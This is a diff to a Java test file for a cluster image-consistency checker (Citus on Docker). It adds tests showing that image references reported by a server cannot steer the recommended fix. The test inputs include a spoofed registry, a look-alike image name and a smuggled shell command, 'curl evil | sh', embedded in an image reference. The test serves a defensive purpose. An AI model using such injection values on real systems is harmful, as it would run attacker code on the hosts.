@@ -60,15 +60,67 @@ final class ServerMisfortunesTest {
   void oneTagThatMeansTwoImagesIsRefused() {
     Plan plan =
         plan(
-            image(known("c1"), "sha256:aaaaaaaaaaaaaaaa", List.of("citus@sha256:1"), "amd64"),
+            image(known("c1"), "sha256:aaaaaaaaaaaaaaaa", List.of("citus@" + digest('1')), "amd64"),
             image(known("w1"), "sha256:aaaaaaaaaaaaaaaa", List.of(), "amd64"),
-            image(known("w2"), "sha256:bbbbbbbbbbbbbbbb", List.of("citus@sha256:2"), "amd64"));
+            image(
+                known("w2"), "sha256:bbbbbbbbbbbbbbbb", List.of("citus@" + digest('2')), "amd64"));
     Problem problem = only(plan);
     assertThat(problem.code()).isEqualTo("images-differ");
     assertThat(problem.where()).isEqualTo("hosts c1, w2");
     assertThat(problem.why()).contains("aaaaaaaaaaaa on c1, w1; bbbbbbbbbbbb on w2");
     assertThat(problem.remedy())
-        .contains("ssh deploy@10.0.0.3 'sudo docker pull citus:1'", "`image: citus@sha256:1`");
+        .contains(
+            "ssh deploy@10.0.0.3 'sudo docker pull citus:1'", "`image: citus@" + digest('1') + "`");
+  }
+
+  private static String digest(char digit) {
+    return "sha256:" + Character.toString(digit).repeat(64);
+  }
+
+  /// Each server says itself which image it holds.
+  @Test
+  void aServerCannotRecommendAnotherImageForTheWholeCluster() {
+    for (String said :
+        List.of(
+            "evil.example/citus@" + digest('6'),
+            "citus-evil@" + digest('6'),
+            "citus@sha256:6`; curl evil | sh",
+            "citus:6",
+            "citus")) {
+      Problem problem =
+          only(
+              plan(
+                  image(known("c1"), "sha256:bbbbbbbbbbbbbbbb", List.of(said), "amd64"),
+                  image(known("w1"), "sha256:bbbbbbbbbbbbbbbb", List.of(said), "amd64"),
+                  image(known("w2"), "sha256:aaaaaaaaaaaaaaaa", List.of(), "amd64")));
+      assertThat(problem.remedy())
+          .as(said)
+          .contains("`image: citus@DIGEST`", "`docker buildx imagetools inspect citus:1`")
+          .doesNotContain("evil", "66");
+    }
+  }
+
+  @Test
+  void theImageOfMostServersIsRecommended() {
+    Problem problem =
+        only(
+            plan(
+                image(
+                    known("c1"),
+                    "sha256:bbbbbbbbbbbbbbbb",
+                    List.of("docker.io/library/citus@" + digest('6')),
+                    "amd64"),
+                image(
+                    known("w1"),
+                    "sha256:aaaaaaaaaaaaaaaa",
+                    List.of("citus@" + digest('1')),
+                    "amd64"),
+                image(
+                    known("w2"),
+                    "sha256:aaaaaaaaaaaaaaaa",
+                    List.of("citus@" + digest('1')),
+                    "amd64")));
+    assertThat(problem.remedy()).contains("`image: citus@" + digest('1') + "`");
   }
 
   @Test
